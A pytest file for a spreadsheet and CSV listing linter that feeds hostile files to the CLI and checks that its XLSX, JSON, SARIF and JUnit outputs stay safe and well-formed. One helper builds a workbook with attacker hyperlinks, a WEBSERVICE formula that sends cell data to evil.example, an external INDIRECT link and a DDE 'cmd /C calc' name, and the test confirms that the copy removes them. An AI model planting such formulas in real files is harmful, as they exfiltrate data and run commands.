"""Hostile inputs against the output formats (issue 21 H1 copy side, M1, M2, M3, M9, M12,
L1, L5, L11; issue 22's re-linted copy and comment sizes). Inputs come from
tests/hostile_files.py; each run is the real CLI in a subprocess with the time and
memory budget of tests/test_hostile.py."""

from __future__ import annotations

import json
import re
import sys
import time
import xml.etree.ElementTree as ET
import zipfile
from pathlib import Path

import openpyxl
import pytest

from tests import hostile_files as hf
from tests.test_hostile import _RUNNER, MAX_RSS_KB

MAX_SECONDS = 30


def _run(*args: str) -> tuple[object, int, float]:
    import subprocess

    start = time.monotonic()
    proc = subprocess.run(
        [sys.executable, "-c", _RUNNER, *args, "--isolated"],
        capture_output=True,
        text=True,
        timeout=MAX_SECONDS * 4,
    )
    took = time.monotonic() - start
    rss = 0
    for line in proc.stderr.splitlines():
        if line.startswith("MAXRSS="):
            rss = int(line.split("=", 1)[1])
    assert "Traceback" not in proc.stderr, proc.stderr[-3000:]
    return proc, rss, took


def _copy(tmp_path: Path, name: str, data: bytes) -> tuple[Path, Path, object]:
    src = tmp_path / name
    src.write_bytes(data)
    out = tmp_path / "checked.xlsx"
    proc, rss, took = _run(str(src), "-o", str(out))
    assert proc.returncode in (0, 1), proc.stderr  # type: ignore[attr-defined]
    assert rss < MAX_RSS_KB, f"peak RSS {rss} kB"
    assert took < MAX_SECONDS, f"{took:.1f} s"
    assert src.read_bytes() == data
    return src, out, proc


def _parts(path: Path) -> dict[str, bytes]:
    with zipfile.ZipFile(path) as zf:
        return {n: zf.read(n) for n in zf.namelist()}


def test_copy_of_a_sparse_workbook_visits_existing_cells_only(tmp_path: Path) -> None:
    _, out, _ = _copy(tmp_path, "sparse_tall.xlsx", hf.sparse_tall_xlsx())
    ws = openpyxl.load_workbook(out, read_only=True).worksheets[0]
    cells = {(c.coordinate, c.value) for row in ws.iter_rows() for c in row if c.value}
    assert ("N1048576", "far") in cells and ("B2", "Ceramic mug") in cells


@pytest.mark.parametrize("ref", ["XFD1048576", "XFD6000"])
def test_copy_of_a_far_cell_workbook_keeps_the_cell_where_it_was(tmp_path: Path, ref: str) -> None:
    # the loader compacts such a sheet before calamine reads it (issue 21 H1); the copy
    # reads it the same way and puts each value back at its own cell
    _, out, _ = _copy(tmp_path, "far.xlsx", hf.far_cell_xlsx(ref))
    ws = openpyxl.load_workbook(out, read_only=True).worksheets[0]
    cells = {(c.coordinate, c.value) for row in ws.iter_rows() for c in row if c.value}
    assert (ref, "x") in cells and ("B2", "Mug") in cells


def _live_workbook(path: Path) -> None:
    from openpyxl.formatting.rule import FormulaRule
    from openpyxl.workbook.defined_name import DefinedName
    from openpyxl.worksheet.datavalidation import DataValidation

    wb = openpyxl.Workbook()
    ws = wb.active
    ws.title = "Products"
    ws.append(["sku", "title", "price"])
    ws.append(["A1", "Ceramic mug", 9])
    ws["B2"].hyperlink = "http://evil.example/x"
    ws["A2"].hyperlink = "file://attacker/share/x.exe"
    ws.conditional_formatting.add(
        "C2", FormulaRule(formula=['WEBSERVICE("http://evil.example/"&A2)'])
    )
    dv = DataValidation(type="list", formula1='INDIRECT("[http://evil.example/x.xlsx]S!A1")')
    ws.add_data_validation(dv)
    dv.add("C2")
    wb.defined_names["cmd"] = DefinedName("cmd", attr_text="cmd|'/C calc'!A0")
    wb.save(path)


def test_copy_carries_nothing_live(tmp_path: Path) -> None:
    src = tmp_path / "live.xlsx"
    _live_workbook(src)
    raw = b"".join(_parts(src).values())
    assert b"WEBSERVICE" in raw and b"INDIRECT" in raw and b"evil.example" in raw
    _, out, _ = _copy(tmp_path, "live.xlsx", src.read_bytes())
    parts = _parts(out)
    blob = b"".join(parts.values())
    for needle in (b"evil.example", b"attacker", b"WEBSERVICE", b"INDIRECT", b"/C calc", b"cmd|"):
        assert needle not in blob, needle
    names = set(re.findall(rb'<definedName name="([^"]+)"', parts["xl/workbook.xml"]))
    assert names <= {b"_xlnm._FilterDatabase"}, names  # only the Issues sheet's filter
    assert not [n for n in parts if "externalLink" in n]
    assert openpyxl.load_workbook(out)["Products"]["B2"].value == "Ceramic mug"


def test_noncharacters_keep_junit_and_xlsx_well_formed(tmp_path: Path) -> None:
    src, out, _ = _copy(tmp_path, "ffff.csv", hf.noncharacter_csv())
    for name, data in _parts(out).items():
        if name.endswith((".xml", ".vml", ".rels")):
            ET.fromstring(data)  # raises on U+FFFE/U+FFFF
    assert openpyxl.load_workbook(out).worksheets[0]["B2"].value == "Kratom capsules"
    junit = tmp_path / "r.xml"
    proc, _, _ = _run(str(src), "-f", "junit", "-o", str(junit))
    assert proc.returncode == 1, proc.stderr  # type: ignore[attr-defined]
    ET.fromstring(junit.read_bytes())


def test_copy_decodes_a_csv_as_the_loader_does(tmp_path: Path) -> None:
    _, out, _ = _copy(tmp_path, "cp1252_even.csv", hf.cp1252_even_csv())
    ws = openpyxl.load_workbook(out).worksheets[0]
    assert ws["B2"].value == "Café crème mug – 250 ml" and ws["C1"].value == "brand"


def test_copy_of_a_big_csv_with_a_long_cell(tmp_path: Path) -> None:
    _, out, _ = _copy(tmp_path, "bigcell.csv", hf.big_cell_csv())
    ws = openpyxl.load_workbook(out, read_only=True).worksheets[0]
    row = next(ws.iter_rows(min_row=2, max_row=2, values_only=True))
    assert row[1] == "Kratom capsules" and len(row[2]) == 32767  # Excel's cell limit


def test_copy_has_the_catalogue_when_only_the_loader_reads_the_workbook(tmp_path: Path) -> None:
    _, out, _ = _copy(tmp_path, "nan.xlsx", hf.nan_number_xlsx())
    wb = openpyxl.load_workbook(out)
    assert wb.sheetnames[0] == "Products"
    assert wb["Products"]["B2"].value == "Kratom capsules"
    assert wb["Products"]["B2"].comment is not None  # the PR101 finding is on its cell


def test_file_name_that_is_no_sheet_name(tmp_path: Path) -> None:
    _, out, _ = _copy(tmp_path, "catalog [final].csv", b"sku,title\nK1,Kratom capsules\n")
    assert openpyxl.load_workbook(out).sheetnames[0] == "catalog (final)"


@pytest.mark.parametrize("fmt", ["json", "sarif"])
def test_json_formats_escape_c1_and_bidi(tmp_path: Path, fmt: str) -> None:
    src = tmp_path / "inject.csv"
    src.write_bytes(hf.hostile_text_csv())
    out = tmp_path / f"r.{fmt}"
    proc, _, _ = _run(str(src), "-f", fmt, "-o", str(out))
    assert proc.returncode == 1, proc.stderr  # type: ignore[attr-defined]
    text = out.read_text(encoding="utf-8")
    assert not re.search("[\x80-\x9f\u202a-\u202e\u2028\u2029]", text)
    assert "\\u009b" in text and "\\u202e" in text
    assert "A\x9b1\u202e" in json.dumps(json.loads(text), ensure_ascii=False)  # same strings


@pytest.mark.parametrize("fmt", ["json", "sarif", "github"])
def test_machine_formats_cap_long_fields(tmp_path: Path, fmt: str) -> None:
    src = tmp_path / "longsku.csv"
    data = hf.long_sku_csv()
    src.write_bytes(data)
    out = tmp_path / f"r.{fmt}"
    proc, _, _ = _run(str(src), "-f", fmt, "-o", str(out), "--select", "PR")
    assert proc.returncode == 1, proc.stderr  # type: ignore[attr-defined]
    size = out.stat().st_size
    assert size < 200_000, f"{size:,} bytes from a {len(data):,}-byte input"
    assert "more characters]" in out.read_text(encoding="utf-8")


def test_relinting_the_copy_skips_its_own_sheets(tmp_path: Path) -> None:
    src = tmp_path / "c.csv"
    src.write_text("sku,title\nK1,Kratom capsules\nK1,Cures arthritis tea\n", encoding="utf-8")
    first, _, _ = _run(str(src), "-f", "json")
    before = json.loads(first.stdout)  # type: ignore[attr-defined]
    out = tmp_path / "checked.xlsx"
    _run(str(src), "-o", str(out))
    again, _, _ = _run(str(out), "-f", "json")
    after = json.loads(again.stdout)  # type: ignore[attr-defined]
    codes = sorted(f["rule"] for f in after["findings"] if f["rule"] != "DT104")
    assert codes == sorted(f["rule"] for f in before["findings"])
    notes = [f for f in after["findings"] if f["rule"] == "DT104"]
    assert {n["sheet"] for n in notes} == {"Issues", "Summary"}
    assert all("listlint's own report" in n["message"] for n in notes)
    # and the copy of a copy does not nest the old Issues/Summary sheets
    twice = tmp_path / "checked2.xlsx"
    _run(str(out), "-o", str(twice))
    assert openpyxl.load_workbook(twice).sheetnames == ["c", "Issues", "Summary"]


def test_comment_boxes_fit_their_text(tmp_path: Path) -> None:
    from listlint.formatters.xlsx import comment_size

    assert comment_size("short") == (120, 40)
    width, height = comment_size("x" * 1600)
    assert height >= 27 * 15 and width <= 60 * 7 + 16
    src = tmp_path / "c.csv"
    src.write_text(
        "sku,title,description\nT1,Turmeric,"
        "Cures arthritis, cures cancer, cures diabetes and treats depression. FDA approved.\n",
        encoding="utf-8",
    )
    out = tmp_path / "checked.xlsx"
    _run(str(src), "-o", str(out))
    vml = b"".join(v for n, v in _parts(out).items() if n.endswith(".vml")).decode()
    heights = [int(h) for h in re.findall(r"height:(\d+)px", vml)]
    assert heights and max(heights) > 79  # openpyxl's default box cut long comments off
